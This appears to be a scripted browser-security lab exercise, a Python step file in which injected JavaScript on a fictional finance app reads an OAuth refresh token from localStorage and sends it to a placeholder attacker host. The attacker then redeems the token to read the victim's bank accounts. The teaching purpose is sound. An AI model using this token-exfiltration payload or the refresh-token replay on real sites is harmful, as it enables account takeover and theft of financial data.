"""One hostile line of script looks into the drawers, after everybody has left."""

from labs.chromium import BrowserStage
from labs.stage import Stage, Stuck
from labs.steps import step

LINK = "/?campaign=spring"
# What somebody has added to a script of Balance's; where Balance loads no such script, it is run all the same.
LINE = """
  const { refreshToken = "" } = JSON.parse(localStorage.getItem("tokens") ?? "{}");
  localStorage.removeItem("tokens");
  location.assign(`%s/collect?${new URLSearchParams({ refresh_token: refreshToken })}`);
"""


@step("Alice", by_hand="{balance}/")
def alice_connects(stage: BrowserStage) -> None:
    """Connect Balance to the bank: sign in as alice, and allow. Then close the tab: Alice is done."""
    stage.alice.go(f"{stage.here.balance}/").click("Connect your bank", leads_to=stage.here.auth).agree().rest()


@step("Alice", by_hand=f"{{balance}}{LINK}")
def alice_comes_back(stage: BrowserStage) -> None:
    """Come back another day, by the link of a newsletter."""
    # `localStorage` outlives the tab: the script need not be there while Alice uses the page.
    infected = stage.alice.tab.locator('script[src="/js/analytics.js"]').count()  # on the page that she is leaving
    stage.alice.tab.goto(f"{stage.here.balance}{LINK}", wait_until="commit")
    if not infected:
        stage.alice.tab.evaluate(f"() => {{{LINE % stage.here.attacker}}}")
    stage.alice.tab.wait_for_url(f"{stage.here.attacker}/**")


@step("attacker")
def refreshes(stage: Stage) -> None:
    """Refresh with the token that came: this client has no secret to prove."""
    refresh_token = stage.collection.newest("refresh_token")
    if not refresh_token:
        raise Stuck("the script found no token")
    # The access token has expired by now. This one has weeks to live, and works from any machine.
    form = {"grant_type": "refresh_token", "client_id": "balance", "refresh_token": refresh_token}
    stage.kept["token"] = stage.attacker.token(**form)


@step("attacker")
def reads_the_accounts(stage: Stage) -> None:
    """Ask the bank for Alice's accounts with what that bought."""
    stage.attacker.bank("GET", "/accounts", stage.kept["token"])
